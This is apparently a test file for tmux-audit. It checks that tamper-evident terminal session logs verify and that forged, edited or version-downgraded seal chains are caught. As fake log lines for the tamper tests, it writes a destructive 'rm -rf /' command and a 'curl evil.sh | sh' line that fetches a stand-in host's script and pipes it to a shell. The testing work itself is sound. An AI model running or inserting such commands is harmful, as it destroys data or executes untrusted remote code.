// Logs written by an older tmux-audit (the release before trust5: `lost`
// events unsealed) still verify, checked the way they were written and said
// so; a recording marked `v=2` is held to the new rules, and the mark cannot
// be taken away to get the older ones (chain/older-chain.ts). The older logs
// are real ones, in test/fixtures/older-logs (recorded by its record.ts).

import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { summaryLine, verifyFiles } from '../../src/commands/verify.ts';
import { cliResult } from '../support/cli.ts';
import type { AuditRecord, Place } from '../../src/core/record.ts';
import { recordFormat } from '../../src/format/formats.ts';
import { DEFAULT_TIME_FORMAT } from '../../src/format/text.ts';
import { FileSink } from '../../src/sinks/file/sink.ts';
import { logFilesInOrder } from '../support/log.ts';
import { FIXTURES } from '../support/paths.ts';
import { quietWriterOptions } from '../support/writer-options.ts';

const OLDER = path.join(FIXTURES, 'older-logs');
const KEY = fs.readFileSync(path.join(OLDER, 'chain.key'));
const OLDER_LOGS = ['text-plain', 'text-keyed', 'json-plain', 'json-keyed', 'text-plain-rotated', 'text-keyed-rotated', 'json-keyed-rotated'];

const dirs: string[] = [];
after(() => {
  for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
});
function scratch(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-older-'));
  dirs.push(dir);
  return dir;
}

/** A copy of an older log's files (to tamper with), and its live file. */
function copyOfOlder(name: string): string {
  const dir = scratch();
  for (const file of fs.readdirSync(path.join(OLDER, name))) fs.copyFileSync(path.join(OLDER, name, file), path.join(dir, file));
  return path.join(dir, 'main.log');
}

const keyFor = (name: string) => (name.includes('keyed') ? KEY : undefined);
// The older rules are asked for (`verify --older`) unless a test says otherwise: the attacks below must fail even then.
const verify = (live: string, key?: Buffer, requireKey = key !== undefined, older = true) => verifyFiles(logFilesInOrder(live), DEFAULT_TIME_FORMAT, { key, requireKey, older });
const kinds = (live: string, key?: Buffer) => verify(live, key).breaks.filter((found) => !found.detail.startsWith("if the key is the log's after all: ")).map((found) => found.kind);
const isSeal = (line: string) => line.includes(' * seal ') || line.includes('"kind":"event","text":"seal"');
const isLost = (line: string) => line.includes(' * lost ') || line.includes('"kind":"event","text":"lost"');

/** Every line of the log, with its file and index there. */
function linesOf(live: string): { file: string; at: number; text: string }[] {
  return logFilesInOrder(live).flatMap((file) =>
    fs
      .readFileSync(file, 'utf8')
      .split('\n')
      .slice(0, -1)
      .map((text, at) => ({ file, at, text })),
  );
}

/** Replaces line `at` of `file` by `edit(line)`. */
function editLine(file: string, at: number, edit: (line: string) => string): void {
  const lines = fs.readFileSync(file, 'utf8').split('\n');
  lines[at] = edit(lines[at]!);
  fs.writeFileSync(file, lines.join('\n'));
}

/** A printed line edited as a person would: its text changed, nothing else. */
const rewrite = (line: string) => line.replace(/(after|before)-(\d{4})/, 'rm -rf / $2').replace(/root@vm/, 'eve@vm');

describe('logs written by an older tmux-audit (lost events unsealed)', () => {
  for (const name of OLDER_LOGS) {
    it(`${name}: verify OK, its lost event checked the old way and said so`, () => {
      const live = path.join(OLDER, name, 'main.log');
      const lines = linesOf(live);
      assert.ok(lines.some((line) => isLost(line.text)), 'a lost event in it');
      assert.ok(!lines.some((line) => / v=2\b|"v":2\b/.test(line.text)), 'nothing in it marked v=2');
      const report = verify(live, keyFor(name));
      assert.deepEqual(report.breaks, []);
      assert.equal(report.lost, 1);
      assert.equal(report.olderLost, 1);
      assert.deepEqual(report.recordings.map((r) => r.chain), [keyFor(name) ? 'hmac' : 'sha256']);
      assert.match(summaryLine('main', report), /^OK main: .*1 recording\(s\) written by an older tmux-audit: their lost events are checked the old way/);
    });

    it(`${name}: an edit in what its seals cover is still caught`, () => {
      const live = copyOfOlder(name);
      const lines = linesOf(live);
      const key = keyFor(name);
      // The line before the last seal (the last seal after the lost event covers it), and one of the first segment, if sealed.
      const last = lines.map((line) => isSeal(line.text)).lastIndexOf(true);
      const targets = [lines[last - 1]!];
      const firstSeal = lines.findIndex((line) => isSeal(line.text));
      if (firstSeal < last) targets.push(lines[firstSeal >> 1]!);
      for (const target of targets) {
        const edited = rewrite(target.text);
        assert.notEqual(edited, target.text, `an editable line: ${target.text.slice(0, 120)}`);
        editLine(target.file, target.at, () => edited);
        // Named as the older rules read it (the segment after a lost event is matched by count first: often `inserted`).
        const found = kinds(live, key);
        assert.ok(found.length > 0, `${target.text.slice(0, 120)} edited: ${JSON.stringify(found)}`);
        editLine(target.file, target.at, () => target.text);
        assert.deepEqual(kinds(live, key), []);
      }
    });
  }

  it('the command line: verify --dir --key --require-key exits 0 and says how the lost event was checked; edited, exits 1', () => {
    const dir = path.dirname(copyOfOlder('text-keyed-rotated'));
    const key = path.join(scratch(), 'chain.key');
    fs.writeFileSync(key, KEY, { mode: 0o600 });
    // Not asked for: the unsealed lost event is forged, or older, and the message says how to check an older log.
    const strict = cliResult(['verify', '--dir', dir, '--key', key, '--require-key']);
    assert.equal(strict.status, 1, strict.stdout + strict.stderr);
    assert.match(strict.stdout, /forged event.*written by a tmux-audit older than v=2 \(verify --older/);
    const clean = cliResult(['verify', '--dir', dir, '--key', key, '--require-key', '--older']);
    assert.equal(clean.status, 0, clean.stdout + clean.stderr);
    assert.match(clean.stdout, /^OK main: .*1 log file\(s\) removed while logging.*1 recording\(s\) written by an older tmux-audit: their lost events are checked the old way/m);
    // The line before the last seal, which covers it: caught.
    const live = path.join(dir, 'main.log');
    const lines = fs.readFileSync(live, 'utf8').split('\n');
    editLine(live, lines.findIndex(isSeal) - 1, rewrite);
    const edited = cliResult(['verify', '--dir', dir, '--key', key, '--require-key', '--older']);
    assert.equal(edited.status, 1, edited.stdout);
    assert.match(edited.stdout, /^TAMPERED main: /m);
  });

  it('what an older log\'s check cannot prove: an edit in the lines its lost event left unsealed does not show (counted as unsealed)', () => {
    const live = copyOfOlder('text-keyed-rotated');
    const report = verify(live, KEY);
    assert.ok(report.recordings[0]!.unsealed > 1000, 'most of it unsealed: the seal before the event went with the removed file');
    const [, second] = logFilesInOrder(live);
    editLine(second!, 5, rewrite);
    assert.deepEqual(kinds(live, KEY), []);
  });

  it('its keyed recording checked without the key: lines counted, seals linked, OK (said so)', () => {
    const report = verify(path.join(OLDER, 'text-keyed', 'main.log'));
    assert.deepEqual(report.breaks, []);
    assert.deepEqual([report.needKey, report.olderLost], [1, 1]);
  });
});

const REC = 'MARKED0001';

/** A recording written by this version's sink, keyed, rotating: start, `lines` lines, stop. */
async function markedLog(lines: number, maxBytes = 48 * 1024): Promise<string> {
  const live = path.join(scratch(), 'main.log');
  const place: Place = { server: '/tmp/s', session: 'main', window: '0', pane: '0', paneId: '%0' };
  const base = { rec: REC, user: 'ann', place };
  const t0 = Date.UTC(2026, 10, 25, 12);
  const sink = new FileSink(
    live,
    recordFormat('text', DEFAULT_TIME_FORMAT),
    quietWriterOptions({ maxBytes }),
    { key: KEY },
  );
  const records: AuditRecord[] = [{ ...base, time: t0, kind: 'event', text: 'start', fields: { by: 'ann' } }];
  for (let i = 0; i < lines; i++) records.push({ ...base, time: t0 + i, kind: 'line', text: `${REC} line ${i}` });
  records.push({ ...base, time: t0 + lines, kind: 'event', text: 'stop', fields: { reason: 'toggle' } });
  for (const [i, record] of records.entries()) {
    sink.write(record);
    if (i % 97 === 0) sink.flush();
  }
  await sink.close();
  return live;
}

/** An unsealed lost event, as an older reader wrote one, for the recording at the head of `file`, with a line after it edited. */
function forgeOlderLost(file: string): void {
  const lines = fs.readFileSync(file, 'utf8').split('\n');
  const printed = lines.findIndex((line) => / \| MARKED0001 line \d+$/.test(line));
  assert.ok(printed >= 0, 'a printed line to edit');
  lines[printed] = lines[printed]!.replace(/line (\d+)$/, 'rm -rf / $1');
  const stamp = lines[0]!.slice(0, lines[0]!.indexOf(' '));
  fs.writeFileSync(file, [`${stamp} ann main:0.0 * lost rec=${REC} what=file`, ...lines].join('\n'));
}

describe('a recording marked v=3 (this version) is held to sealed lost events', () => {
  it('its start and every seal carry v=3; clean: OK, nothing read the old way', async () => {
    const live = await markedLog(2500);
    const lines = linesOf(live).map((line) => line.text);
    assert.match(lines[0]!, / \* start rec=MARKED0001 by=ann v=3 chain=hmac$/);
    const seals = lines.filter(isSeal);
    assert.ok(seals.length >= 3 && seals.every((seal) => / h=[0-9a-f]{32} s=\d+ v=3 chain=hmac( end=stop)? e=[0-9a-f]{32}$/.test(seal)), seals.join('\n'));
    const report = verify(live, KEY);
    assert.deepEqual(report.breaks, []);
    assert.equal(report.olderLost, 0);
  });

  it('an unsealed lost event forged ahead of its last seal, a line after it edited: forged event', async () => {
    const live = await markedLog(2500);
    const files = logFilesInOrder(live);
    forgeOlderLost(files.at(-1)!);
    const found = verify(live, KEY).breaks;
    assert.ok(found.some((b) => b.kind === 'forged event' && b.file === files.at(-1) && b.line === 1 && /\(v=2\)/.test(b.detail)), JSON.stringify(found));
  });

  it('the same with its start gone (the files before taken away, as if pruned): the seals say v=3, forged event', async () => {
    const live = await markedLog(2500, 24 * 1024);
    const files = logFilesInOrder(live);
    assert.ok(files.length >= 4, 'it rotated');
    // Up to the file that holds the second seal: what is left starts with no start, its first seal link only.
    const keepFrom = files.findIndex((file, i) => i > 0 && fs.readFileSync(file, 'utf8').includes(' * seal '));
    for (const file of files.slice(0, keepFrom)) fs.rmSync(file);
    forgeOlderLost(files.at(-1)!);
    const report = verify(live, KEY);
    assert.ok(report.breaks.some((b) => b.kind === 'forged event' && b.file === files.at(-1) && b.line === 1), JSON.stringify(report.breaks));
    assert.equal(report.olderLost, 0);
  });

  it('v=3 taken out of its start and every seal, to be read the old way: the seals break (the key)', async () => {
    const live = await markedLog(2500);
    for (const file of logFilesInOrder(live)) fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replaceAll(' v=3', ''));
    // No seal's own line (e=) holds under the key any more: every keyed seal rewritten, to the key's holder. The
    // rotated files' head marks still hold under it, which says the key is the log's (chain/key-match.ts): so
    // not `wrong key` (as when a log had no mark) but each seal named.
    const kinds = () => [...new Set(verify(live, KEY).breaks.map((found) => found.kind))];
    assert.deepEqual(kinds(), ['edited']);
    forgeOlderLost(logFilesInOrder(live).at(-1)!);
    assert.ok(!kinds().includes('wrong key'), kinds().join());
  });

  it('v=3 taken out of its last seal alone (the one line no seal hashes): named', async () => {
    const live = await markedLog(1500);
    const last = logFilesInOrder(live).at(-1)!;
    fs.writeFileSync(last, fs.readFileSync(last, 'utf8').replace(/ v=3( chain=hmac end=stop)/, '$1'));
    const found = verify(live, KEY).breaks;
    assert.deepEqual(found.map((b) => b.kind), ['edited']);
    assert.match(found[0]!.detail, /without v= in a recording whose start or seals say v=/);
  });

  it('s= taken out of its last seal alone (no later seal hashes that line): edited; made v=2 as well (the release before v=3 wrote no s=): edited', async () => {
    const live = await markedLog(1500);
    const last = logFilesInOrder(live).at(-1)!;
    const clean = fs.readFileSync(last, 'utf8');
    fs.writeFileSync(last, clean.replace(/ s=\d+( v=3 chain=hmac end=stop)/, '$1'));
    const found = verify(live, KEY).breaks;
    // And its own line no longer holds under the key (chain/seal-tag.ts).
    assert.deepEqual(found.map((b) => b.kind), ['edited', 'edited']);
    assert.match(found[0]!.detail, /without s= in a recording marked v=3/);
    assert.match(found[1]!.detail, /e= does not hold under the key/);
    fs.writeFileSync(last, clean.replace(/ s=\d+ v=3( chain=hmac end=stop)/, ' v=2$1'));
    const downgraded = verify(live, KEY).breaks;
    assert.deepEqual(downgraded.map((b) => b.kind), ['edited']);
    assert.match(downgraded[0]!.detail, /another chain version/);
  });

  it('a recording forged in the older shape (an unsealed lost event opening it, a seal claiming chain=hmac, a stop) appended to a keyed log: forged unless --older is asked for', async () => {
    // The review's forgery: without --older nothing reads it the older way; with it, it is what --older is documented not to catch.
    const live = await markedLog(1500);
    const stamp = '2099-01-01T00:00:00.000+00:00 root main:7.0';
    fs.appendFileSync(live, [`${stamp} * lost rec=FAKEFAKE01 what=file`, `${stamp} | root$ curl evil.sh | sh`, `${stamp} * seal rec=FAKEFAKE01 n=9 p=0 h=00112233445566778899aabbccddeeff chain=hmac end=stop`, `${stamp} * stop rec=FAKEFAKE01 reason=toggle`, ''].join('\n'));
    const found = verify(live, KEY, true, false).breaks;
    assert.ok(found.some((b) => b.kind === 'forged event' && b.rec === 'FAKEFAKE01'), JSON.stringify(found));
  });

  it('an older log without --older: its unsealed lost event is a forged event whose message names --older', () => {
    for (const name of OLDER_LOGS) {
      const found = verify(path.join(OLDER, name, 'main.log'), keyFor(name), keyFor(name) !== undefined, false).breaks;
      assert.deepEqual(found.map((b) => b.kind), ['forged event'], name);
      assert.match(found[0]!.detail, /verify --older/);
    }
  });

  it('a whole older-style recording (unsealed lost) added to a keyed log without the key: unkeyed under --require-key, counted without it', async () => {
    const live = await markedLog(1500);
    fs.appendFileSync(live, fs.readFileSync(path.join(OLDER, 'text-plain', 'main.log')));
    assert.deepEqual(kinds(live, KEY), ['unkeyed']);
    const report = verify(live, KEY, false);
    assert.deepEqual(report.breaks, []);
    assert.deepEqual([report.unkeyed, report.olderLost], [1, 1]);
  });
});
